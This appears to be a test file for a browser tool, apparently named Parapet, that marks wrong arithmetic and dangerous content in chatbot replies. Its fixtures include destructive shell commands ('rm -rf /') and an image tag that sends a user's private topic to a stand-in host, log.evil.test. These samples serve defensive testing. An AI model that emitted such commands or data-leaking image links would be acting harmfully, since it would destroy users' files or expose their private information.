import { describe, expect, test } from 'vitest';
import type {} from '../page/main.ts';
import { addReplies, boxes, page, painted, spoken, start, wrong, useReadingLab } from '../reading-lab.ts';

useReadingLab();

describe('marking', () => {
  test('underlines the exact words and leaves the tree and the layout as they were', async () => {
    await addReplies(`${wrong}<pre><code class="language-bash">rm -rf /</code></pre>`);
    const look = (): Promise<unknown> =>
      page.evaluate(() => [
        document.querySelector('main')!.outerHTML,
        document.body.scrollHeight,
        document.body.childElementCount,
      ]);
    const before = await look();
    await start();
    await expect.poll(painted).toEqual(['418', 'rm -rf /']);
    expect(await look()).toEqual(before);
  });

  test('a block that the words before it warn of is left alone', async () => {
    await addReplies(
      '<p>Never run this:</p><pre><code>rm -rf /</code></pre>',
      `<p>Run this:</p><pre><code>rm -rf /</code></pre>`,
    );
    await start();
    await expect.poll(painted).toEqual(['rm -rf /']);
    await page.waitForTimeout(800);
    expect(await painted()).toEqual(['rm -rf /']);
  });

  test('finds its words again after the page has rendered them anew, and drops them once they are gone', async () => {
    await addReplies(wrong, wrong.replace('418', '409'));
    await start();
    await expect.poll(painted).toEqual(['409', '418']);
    await page.evaluate(() => {
      const reply = document.querySelector('.reply')!;
      reply.innerHTML = reply.innerHTML;
    });
    await expect.poll(painted).toEqual(['409', '418']);
    await page.evaluate(() => CSS.highlights.clear());
    await page.evaluate(() => (document.querySelector('.reply')!.innerHTML = '<p>17 × 24 = 408, of course.</p>'));
    await expect.poll(painted).toEqual(['409']);
    await page.evaluate(() => document.querySelectorAll('.reply')[1]!.remove());
    await expect.poll(painted).toEqual([]);
    expect(await page.evaluate(() => window.lab.count())).toBe(0);
  });

  test('marks inside an open shadow root', async () => {
    await addReplies('<x-part></x-part>');
    await page.evaluate((inside) => {
      document.querySelector('x-part')!.attachShadow({ mode: 'open' }).innerHTML = inside;
    }, wrong);
    await start();
    await expect.poll(painted).toEqual(['418']);
    expect(await page.evaluate(() => document.querySelector('x-part')!.shadowRoot!.adoptedStyleSheets.length)).toBe(1);
  });

  test('takes everything away when it is stopped', async () => {
    await addReplies(wrong);
    await start();
    await expect.poll(painted).toEqual(['418']);
    await page.evaluate(() => window.lab.stop());
    expect(await painted()).toEqual([]);
    expect(await page.locator('parapet-marks').count()).toBe(0);
  });
});

describe('what cannot be underlined', () => {
  test('a picture that would carry data gets a frame', async () => {
    await addReplies(
      '<p>Done. <img alt="ok" width="60" height="40" src="https://log.evil.test/c.gif?q=the+user+asked+about+his+divorce"></p>',
    );
    await start();
    await expect.poll(boxes).toBe(1);
  });

  test('without the browser’s highlights the words get boxes, which go with the words', async () => {
    await addReplies(wrong);
    await page.evaluate(() => Reflect.deleteProperty(CSS, 'highlights'));
    await start();
    await expect.poll(boxes).toBe(1);
    await page.evaluate(() => document.querySelector('.reply')!.remove());
    await expect.poll(boxes).toBe(0);
  });
});

describe('explaining', () => {
  test('by keyboard: Tab, Enter, arrows, Escape, Wrong mark', async () => {
    await addReplies(`${wrong}<p>And 5 + 6 = 12.</p>`);
    await start();
    await expect.poll(painted).toEqual(['12', '418']);
    expect(await spoken()).toContain('Parapet marked 2 passages');
    await page.locator('#composer').focus();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(spoken).toContain('17 × 24 is 408, not 418.');
    const shots = process.env['SCREENSHOTS'];
    if (shots) await page.waitForTimeout(300).then(() => page.screenshot({ path: `${shots}/marks-keyboard.png` }));
    await page.keyboard.press('ArrowDown');
    await expect.poll(spoken).toContain('5 + 6 is 11, not 12.');
    await page.keyboard.press('Escape');
    await expect.poll(spoken).not.toContain('is 11');
    // from inside the card Escape leads back to where it was opened
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Escape');
    await expect.poll(spoken).not.toContain('17 × 24 is 408');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(painted).toEqual(['12']);
    expect(await page.evaluate(() => window.lab.wrong)).toEqual(['The sum does not add up']);
    expect(await page.evaluate(() => window.lab.opened)).toHaveLength(2);
    // after the last mark the focus is where it came from
    await page.keyboard.press('Enter');
    await expect.poll(spoken).toContain('5 + 6 is 11, not 12.');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(painted).toEqual([]);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('composer');
  });

  test('what several say of the same words stands on one card, each reason once', async () => {
    await addReplies(`${wrong}<p>And 5 + 6 = 12.</p>`);
    await page.evaluate(() => void (window.lab.doubled = true));
    await start();
    await expect.poll(painted).toHaveLength(6);
    expect(await spoken()).toContain('Parapet marked 2 passages');
    await page.locator('#composer').focus();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(spoken).toContain('not 418.');
    expect((await spoken()).match(/Also: .*/g)).toContain('Also: It looks odd.');
    await page.keyboard.press('ArrowDown');
    await expect.poll(spoken).toContain('5 + 6 is 11, not 12.');
    expect(await spoken()).toContain('Parapet · 2 of 2');
  });

  test.each(['light', 'dark'])('by pointer, on a %s page', async (theme) => {
    await addReplies(
      `${wrong}<p>Paste this into a terminal:</p><pre><code class="language-bash">cd build\nrm -rf "$OUT"/*</code></pre><p>The rest is fine.</p>`,
    );
    await page.evaluate((name) => document.body.classList.add(name), theme);
    await start();
    await expect.poll(painted).toHaveLength(2);
    const box = (await page.locator('.reply b').boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await expect.poll(spoken).toContain('not 418.');
    const shots = process.env['SCREENSHOTS'];
    if (shots) await page.waitForTimeout(300).then(() => page.screenshot({ path: `${shots}/marks-${theme}.png` }));
    await page.mouse.move(box.x, box.y + 400);
    await expect.poll(spoken).not.toContain('not 418.');
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await expect.poll(spoken).toContain('not 418.');
    await page.keyboard.press('Escape');
    expect(await spoken()).not.toContain('not 418.');
  });
});
